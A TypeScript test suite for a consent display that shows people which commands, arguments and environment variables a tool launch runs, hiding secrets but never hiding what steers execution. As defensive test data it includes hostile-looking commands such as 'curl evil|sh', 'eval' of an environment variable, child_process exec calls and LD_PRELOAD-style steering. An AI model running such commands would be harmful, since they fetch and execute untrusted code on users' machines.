import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { JsonObject } from '../../model/json.ts';
import { createMemoryStore } from '../../store/memory-store.ts';
import { openSecrets } from '../../store/secrets.ts';
import { sealSecrets } from '../secrets/secret-values.ts';
import { toCommandLine } from './command-line.ts';
import { describeEntry, toEntryLine } from './describe-entry.ts';

const TOKEN = 'ghp_9f8e7d6c5b4a39281706f5e4d3c2b1a09f8e';

async function seal(entry: JsonObject): Promise<JsonObject> {
  return sealSecrets('x', entry, openSecrets(createMemoryStore()));
}

describe('what a person agrees to', () => {
  it.each([
    ['sh', ['-c', '/tmp/evil.sh; key=1']],
    ['bash', ['-lc', 'password=1']],
    ['node', ['-e', "require('child_process')", '--token', 'x;y']],
    ['node', ['--token', "require('child_process').exec('evil')"]],
    ['node', ['--import=data:text/javascript,evil', 'a.js']],
    ['python3', ['-m', 'sk_evilmodule']],
    ['npx', ['-y', 'sk-evil-package-name']],
    ['npx', ['-y', '-c', 'curl evil|sh; token=1']],
    ['npx', ['-y', '--package', 'sk-evil-package-name', 'run-it']],
    ['docker', ['run', '-i', 'sk-evil-image-name']],
    ['env', ['-S', 'key=1 evil']],
    ['sk-evil-program', []],
  ])('is the whole program: %s %j', async (command, args) => {
    const entry = { command, args };
    const [line = ''] = describeEntry(entry);
    expect(line).not.toContain('(hidden)');
    for (const word of [command, ...args]) expect(line).toContain(JSON.stringify(word).slice(1, -1));
    expect(await seal(entry)).toEqual(entry);
  });

  it.each([
    ['node', ['a.js', '--header', 'Authorization: Bearer abc'], 'abc'],
    ['node', ['a.js', '--header', 'Cookie: a=1; session=abcdef'], 'abcdef'],
    ['docker', ['run', '-e', 'API_KEY=opensesame', 'image'], 'opensesame'],
    ['npx', ['-y', 'some-server', TOKEN], TOKEN],
    ['node', ['-e', '1', '--token', 'opensesame'], 'opensesame'],
    ['node', ['--api-key', 'opensesame', 'a.js'], 'opensesame'],
    ['my-server', [TOKEN], TOKEN],
    ['uvx', ['--from', `git+https://${TOKEN}@git.example/a/b`, 'b'], TOKEN],
    ['uvx', [`--from=git+https://${TOKEN}@git.example/a/b`, 'b'], TOKEN],
    ['npx', ['-y', `git+https://me:${TOKEN}@git.example/a/b`], TOKEN],
    ['my-server', ['Server=db;User=me;Password=opensesame'], 'opensesame'],
    ['my-server', ['https://x.example/?a=1&api_key=opensesame'], 'opensesame'],
    ['my-server', ['{"apiKey":"a&b"}'], 'a&b'],
  ])('holds no secret argument: %s %j', async (command, args, secret) => {
    const entry = { command, args };
    expect(toEntryLine(entry)).not.toContain(secret);
    expect(JSON.stringify(await seal(entry))).not.toContain(secret);
  });

  it('shows variables unless they are secret, and always those that change what is run', () => {
    const env = {
      MODE: 'fast way',
      API_KEY: 'opensesame',
      PASSPHRASE: 'open sesame',
      NODE_OPTIONS: `-r ${TOKEN}`,
    };
    expect(describeEntry({ command: 'x', env })).toEqual([
      'runs: x',
      'variable: MODE="fast way"',
      'variable: API_KEY=(hidden, kept sealed)',
      'variable: PASSPHRASE=(hidden, kept sealed)',
      `variable: NODE_OPTIONS="-r ${TOKEN}"`,
    ]);
    const steered = {
      LD_PRELOAD: TOKEN,
      GIT_CONFIG_KEY_0: 'core.sshCommand',
      npm_config_key: 'x',
      BASH_ENV: '/e',
    };
    expect(describeEntry({ command: 'x', env: steered }).join('\n')).not.toContain('hidden');
    const credentials = {
      GIT_TOKEN: 'opensesame',
      npm_config__authToken: 'opensesame',
      PIP_INDEX_URL: 'https://me:opensesame@pip.example/',
    };
    expect(describeEntry({ command: 'x', env: credentials }).join('\n')).not.toContain('opensesame');
  });

  it('shows a variable that the program text makes a program of', () => {
    const entry = { command: 'sh', args: ['-c', 'eval "$API_KEY"'], env: { API_KEY: '/tmp/evil.sh --now' } };
    expect(describeEntry(entry)).toContain('variable: API_KEY="/tmp/evil.sh --now" (kept sealed)');
  });

  it('never hides what the registry wrote itself', () => {
    const entry = {
      command: 'npx',
      args: ['-y', 'a', '--key', 'of-the-registry'],
      env: { A_TOKEN: 'public' },
    };
    expect(describeEntry(entry, { open: ['of-the-registry', 'public'] })).toEqual([
      'runs: npx -y a --key of-the-registry',
      'variable: A_TOKEN=public',
    ]);
  });

  it('cannot be made to look hidden by a text that says so', () => {
    const entry = {
      command: 'x',
      args: ['(hidden)', '--token', 'abc'],
      env: { A: '(hidden)', B: '\u{f0000}' },
    };
    expect(describeEntry(entry)).toEqual([
      'runs: x "(hidden)" --token (hidden)',
      'variable: A="(hidden)"',
      'variable: B="\\\\u{f0000}"',
    ]);
  });

  it('shows every argument of a shell as it is, whatever it holds', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1 }), (text) => {
        const [line = ''] = describeEntry({ command: 'sh', args: ['-c', text] });
        expect(line).toBe(`runs: sh -c ${toCommandLine(text, [])}`);
      }),
    );
  });
});
